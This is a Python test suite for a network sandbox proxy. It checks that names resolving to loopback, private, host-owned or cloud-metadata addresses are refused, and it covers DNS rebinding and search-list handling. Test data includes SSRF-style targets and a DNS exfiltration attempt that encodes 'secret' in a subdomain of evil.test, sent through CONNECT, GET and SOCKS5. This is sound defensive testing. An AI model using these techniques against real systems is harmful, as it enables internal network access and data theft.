"""Resolution by the host's configuration, and what a name may resolve to: a host of its own, with a DNS server on
127.0.0.1:53 and a public address that is not an interface's (a local route)."""
import os
import socket
import struct
import subprocess
import sys
import threading

import nettest

PUBLIC, DEAF, OWN, LAN = "93.184.216.34", "93.184.216.35", "203.0.114.1", "10.9.8.7"
ANSWERS = {
    "good.test": [("A", PUBLIC)],
    "v6loop.test": [("AAAA", "::1")],
    "mapped.test": [("AAAA", "::ffff:127.0.0.1")],
    "zero.test": [("A", "0.0.0.0")],
    "metadata.test": [("A", "169.254.169.254")],
    "alias.test": [("CNAME", "loop.test"), ("A", "127.0.0.1")],
    "nat64.test": [("AAAA", "64:ff9b::7f00:1")],
    "mixed.test": [("A", PUBLIC), ("A", "127.0.0.1")],
    "loop.test": [("A", "127.0.0.1")],
    "private.test": [("A", LAN)],
    "own.test": [("A", OWN)],
    "dual.test": [("AAAA", "2606:4700::1111"), ("A", PUBLIC)],
    "slow.test": [("A", DEAF), ("A", PUBLIC)],
    "nx.good.test.corp.test": [("A", PUBLIC)],
    "short.corp.test": [("A", PUBLIC)],
}


def enter_own_host():
    """This script again, in namespaces where it may listen on port 53 and replace resolv.conf."""
    os.execvp("unshare", ["unshare", "-Urnm", nettest.PYTHON, os.path.abspath(__file__), *sys.argv[1:], "--inside"])


def encode_name(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


class Resolver:
    def __init__(self):
        self.asked, self.turn = [], {}
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 53))
        threading.Thread(target=self.serve, daemon=True).start()

    def records(self, name, kind):
        if name == "rebind.test" and kind == 1:
            self.turn[name] = self.turn.get(name, 0) + 1
            return [("A", PUBLIC if self.turn[name] == 1 else "127.0.0.1")]
        wanted = {1: ("A", "CNAME"), 28: ("AAAA", "CNAME")}.get(kind, ())
        return [r for r in ANSWERS.get(name, []) if r[0] in wanted]

    def serve(self):
        while True:
            query, client = self.socket.recvfrom(4096)
            labels, at = [], 12
            while query[at]:
                labels.append(query[at + 1:at + 1 + query[at]].decode())
                at += 1 + query[at]
            name, kind = ".".join(labels).lower(), struct.unpack(">H", query[at + 1:at + 3])[0]
            self.asked.append(name)
            records, body = self.records(name, kind), b""
            owner = name
            for record, value in records:
                number = {"A": 1, "AAAA": 28, "CNAME": 5}[record]
                data = encode_name(value) if number == 5 else socket.inet_pton(socket.AF_INET if number == 1 else socket.AF_INET6, value)
                body += encode_name(owner) + struct.pack(">HHIH", number, 1, 0, len(data)) + data
                owner = value if number == 5 else owner
            known = name in ANSWERS or name == "rebind.test"
            header = query[:2] + struct.pack(">HHHHH", 0x8180 if known else 0x8183, 1, len(records), 0, 0)
            self.socket.sendto(header + query[12:at + 5] + body, client)


class Resolution(nettest.NetTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        run = lambda *c: subprocess.run(c, check=True)
        run("ip", "link", "set", "lo", "up")
        run("ip", "route", "add", "local", "93.184.216.0/24", "dev", "lo")
        run("ip", "addr", "add", OWN + "/32", "dev", "lo")  # of an interface of this host
        run("ip", "route", "add", "local", "10.9.8.0/24", "dev", "lo")  # a neighbour
        for name, text in {"resolv.conf": "nameserver 127.0.0.1\n", "nsswitch.conf": "hosts: files dns\n"}.items():
            with open(f"{cls.scratch}/{name}", "w", encoding="ascii") as f:
                f.write(text)
            run("mount", "--bind", f"{cls.scratch}/{name}", f"/etc/{name}")
        cls.resolver = Resolver()
        cls.web = cls.serve(nettest.Web())
        cls.servers = []
        for address in PUBLIC, "127.0.0.1", OWN, LAN:
            web = nettest.Web()
            web.server.socket.close()
            web.server.socket = socket.create_server((address, 80))
            cls.servers.append(cls.serve(web))

    def setUp(self):
        self.resolver.asked.clear()

    def get(self, name, allow=None):
        run = self.inside(self.spec(allow or [name]), """
print(proxy(b"GET http://%s/x HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % ((sys.argv[1].encode(),) * 2)).decode())
""", name)
        return run

    def test_control(self):
        run = self.get("good.test")
        self.assertIn("hello /x", run.out, run)
        self.assertIn("good.test", self.resolver.asked)

    def test_an_address_that_is_allowed_by_name_only(self):
        run = self.inside(self.spec(["good.test"]), """
a = sys.argv[1].encode()
print(outcome(lambda: connect(sys.argv[1], 80)), proxy(b"CONNECT %s:80 HTTP/1.1\\r\\nHost: %s:80\\r\\n\\r\\n" % (a, a))[9:12],
      proxy(b"GET http://%s/x HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (a, a))[9:12])
""", PUBLIC)
        self.assertEqual(run.out, "ENETUNREACH b'403' b'403'\n", run)

    def test_search_list(self):
        """It completes names of one label. A name that a rule allows never becomes another one."""
        path = f"{self.scratch}/resolv.conf"
        with open(path, encoding="ascii") as f:
            self.addCleanup(self.write, path, f.read())
        self.write(path, "search other.test corp.test\noptions ndots:4\nnameserver 127.0.0.1\n")
        socket.create_connection(("nx.good.test", 80), 5).close()  # control
        rules = ["good.test", "*.good.test", "short"]
        for name in "good.test", "short":
            self.assertIn("hello /x", self.get(name, rules).out, name)
        self.resolver.asked.clear()
        run = self.get("nx.good.test", rules)
        self.assertEqual(run.causes(), ["resolve-failed"], run)
        self.assertEqual(set(self.resolver.asked), {"nx.good.test"})

    @staticmethod
    def write(path, text):
        with open(path, "w", encoding="ascii") as f:
            f.write(text)

    def test_several_addresses(self):
        """One family has no route; one address never answers: the next is tried."""
        with socket.create_server((DEAF, 80), backlog=0):
            held = []
            for _ in range(4):  # until its queue is full
                s = socket.socket()
                self.addCleanup(s.close)
                s.setblocking(False)
                s.connect_ex((DEAF, 80))
                held.append(s)
            for name in "dual.test", "slow.test":
                run = self.get(name)
                self.assertIn("hello /x", run.out, (name, run))

    def test_names_of_the_hosts_file(self):
        hosts = self.scratch + "/hosts"
        with open(hosts, "w", encoding="ascii") as f:
            f.write(f"127.0.0.1 localhost\n{PUBLIC} filed.test\n")
        subprocess.run(["mount", "--bind", hosts, "/etc/hosts"], check=True)
        self.addCleanup(subprocess.run, ["umount", "/etc/hosts"], check=True)
        self.assertIn("hello /x", self.get("filed.test").out)
        self.assertEqual(self.resolver.asked, [])

    def test_names_that_lead_home(self):
        for name in "v6loop", "mapped", "zero", "metadata", "alias", "nat64", "mixed", "loop", "private", "own":
            with self.subTest(name):
                run = self.get(name + ".test")
                self.assertIn("403 Forbidden", run.out, run)
                self.assertIn("X-Dirbox-Reason: guarded-address", run.out, run)

    def test_the_host_and_its_neighbours(self):
        """By address, directly and through the proxy; a rule that is written as the address opens it."""
        code = """
for host in sys.argv[1:]:
    print(outcome(lambda: connect(host, 80).close()), proxy(b"GET http://%s/x HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % ((host.encode(),) * 2))[9:12])
"""
        for address in OWN, LAN:
            socket.create_connection((address, 80), 5).close()  # control
        seen = sum(len(server.requests) for server in self.servers)
        run = self.inside(self.spec(["good.test"]), code, OWN, LAN)
        self.assertEqual(run.out.splitlines(), ["ENETUNREACH b'403'"] * 2, run)
        self.assertEqual(sum(len(server.requests) for server in self.servers), seen)
        run = self.inside(self.spec([OWN, "10.9.0.0/16"]), code.replace("\\r\\n\\r\\n", "\\r\\nConnection: close\\r\\n\\r\\n"), OWN, LAN)
        self.assertEqual(run.out.splitlines(), ["None b'200'"] * 2, run)

    def test_rebinding(self):
        """Public at the first look, loopback ever after: what is dialled is what was checked."""
        run = self.get("rebind.test")
        self.assertIn("hello /x", run.out, run)
        run = self.get("rebind.test")
        self.assertIn("guarded-address", run.out, run)

    def test_denied_names_are_never_looked_up(self):
        secret = "c2VjcmV0.evil.test"
        run = self.inside(self.spec(["good.test"]), """
n = sys.argv[1].encode()
for data in (b"CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n" % (n, n), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (n, n)): proxy(data)
s = connect("127.0.0.1", 3128); s.sendall(b"\\x05\\x01\\0"); s.recv(2)
s.sendall(b"\\x05\\x01\\0\\x03" + bytes([len(n)]) + n + b"\\x01\\xbb"); s.recv(10)
for call in (lambda: socket.getaddrinfo(sys.argv[1], 1), lambda: socket.gethostbyname("x." + sys.argv[1])): outcome(call)
socket.getaddrinfo("good.test", 80)
""", secret)
        self.assertEqual(len([e for e in run.events if e.get("event") == "denied"]), 3, run)
        self.assertEqual(self.resolver.asked, [])


if __name__ == "__main__":
    if "--inside" not in sys.argv:
        enter_own_host()
    sys.argv.remove("--inside")
    nettest.suite.run(verbosity=2)
